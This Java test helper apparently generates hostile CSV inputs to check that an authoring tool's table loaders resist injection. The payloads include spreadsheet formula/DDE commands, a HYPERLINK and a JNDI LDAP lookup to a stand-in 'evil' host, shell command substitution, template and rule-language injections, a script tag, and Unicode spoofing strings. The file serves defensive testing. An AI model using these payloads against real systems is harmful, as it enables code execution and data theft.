package dev.mainstay.authoring.redteam;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Every cell of every table, with what a spreadsheet, a template, a shell or a rule compiler would run. */
final class TableAttacks {

    private static final String LIMITS =
            "key,account,tier,industry,kind,value,unit,min,max,step,effectiveFrom,owner,source,grade,why\n"
                    + "delivery.onTime,,,,,0.9,RATIO,0,1,0.01,2026-01-01,KAM,practice,J,judgement";

    /** One valid row of each table of the hostile packs. */
    static final Map<String, String> ROWS = rows();

    private TableAttacks() {}

    private static Map<String, String> rows() {
        Map<String, String> rows = new LinkedHashMap<>();
        rows.put("limits.csv", LIMITS);
        rows.put("diagnosis.csv", "signal,cause,facet,weight,note\nLATE,SUPPLIER_OPTIMISATION,OUTGROWN,0.5,n");
        rows.put(
                "actions.csv",
                "code,commitment,traits,lever,owner,dueDays,effortHours,cost,obligation,requires,success,stop,excludes\n"
                        + "RECOVER,DELIVERY,fix,RELATIONAL,KAM,14,8,0,false,,DONE,STOP,");
        rows.put(
                "playbook.csv",
                "cause,facet,risk,signal,commitment,stance,tier,kind,industry,valueClass,atLeast,action,save\n"
                        + ",,,LATE,,,KEY,,feed,,0.2,RECOVER,0.4");
        rows.put("weights.csv", "key,value,note\nhorizon.years,2,n");
        rows.put("texts/en.csv", "key,text\nsignal.LATE,Deliveries arrive late");
        rows.put("texts/zh.csv", "key,text\nsignal.LATE,交货延迟");
        return rows;
    }

    /** What a cell is made to hold. Code that reads like prose is prose: no payload here is a mere sentence. */
    private static Map<String, String> payloads() {
        String call = Canary.NAME + ".sing()";
        Map<String, String> payloads = new LinkedHashMap<>();
        payloads.put("formula", "=cmd|' /C calc'!A0");
        payloads.put("formula with @", "@SUM(1+1)*cmd|' /C calc'!A0");
        payloads.put("formula with +", "+cmd|' /C calc'!A0");
        payloads.put("formula with -", "-2+3+cmd|' /C calc'!A0");
        payloads.put("full-width formula", "＝1+1");
        payloads.put("formula behind a blank", " =1+1");
        payloads.put("link", "=HYPERLINK(\"http://evil/\",\"x\")");
        payloads.put("template", "${" + call + "}");
        payloads.put("expression template", "#{" + call + "}");
        payloads.put("MVEL template", "@{" + call + "}");
        payloads.put("MVEL code template", "x @code{" + call + "}");
        payloads.put("mustache", "{{" + call + "}}");
        payloads.put("JNDI", "x ${jndi:ldap://evil/a}");
        payloads.put("shell", "$(touch " + Canary.FILE + ")");
        payloads.put("backtick", "x `touch " + Canary.FILE + "`");
        payloads.put("script tag", "x <script>alert(1)</script>");
        payloads.put("server page", "<% " + call + " %>");
        payloads.put("unicode escape", "\\u0053ystem.exit(1)");
        payloads.put("end of a call", "x\"); " + call + "; //");
        payloads.put("rule in a cell", "x\nend\nrule \"y\" when eval(" + call + ") then " + call + "; end");
        payloads.put("direction override", "safe\u202Egnp.exe");
        payloads.put("zero width", "sa\u200Bfe");
        payloads.put("other alphabet", "sаfe");
        payloads.put("escape sequence", "\u001B]0;evil\u0007");
        payloads.put("long", "x".repeat(100_000));
        return payloads;
    }

    static List<Attack> all() {
        List<Attack> attacks = new ArrayList<>();
        ROWS.forEach((file, table) -> {
            String[] header = table.split("\n", -1)[0].split(",");
            String[] cells = table.split("\n", -1)[1].split(",", -1);
            for (int i = 0; i < header.length; i++) {
                int column = i;
                payloads().forEach((name, payload) -> {
                    String[] row = cells.clone();
                    row[column] = '"' + payload.replace("\"", "\"\"") + '"';
                    attacks.add(Attack.text(
                            file + " " + header[column],
                            name,
                            file,
                            String.join(",", header) + "\n" + String.join(",", row) + "\n"));
                });
            }
            header(file, header, cells, attacks);
        });
        numbers(attacks);
        return attacks;
    }

    private static void header(String file, String[] header, String[] cells, List<Attack> attacks) {
        payloads()
                .forEach((name, payload) -> attacks.add(Attack.text(
                        file + " header",
                        name,
                        file,
                        String.join(",", header) + ",\"" + payload.replace("\"", "\"\"") + "\"\n"
                                + String.join(",", cells) + ",x\n")));
    }

    /** Whatever Java reads as a number and a person does not. */
    private static void numbers(List<Attack> attacks) {
        for (String number : List.of(
                "0x1p-1",
                "1d",
                "1f",
                "NaN",
                "Infinity",
                "-Infinity",
                "1e400",
                "0.9; E",
                "1_0",
                "٠.٩",
                "９",
                "1".repeat(400))) {
            attacks.add(Attack.text(
                    "limits.csv value",
                    "number " + number.substring(0, Math.min(9, number.length())),
                    "limits.csv",
                    LIMITS.replace(",0.9,", "," + number + ",") + "\n"));
        }
    }
}
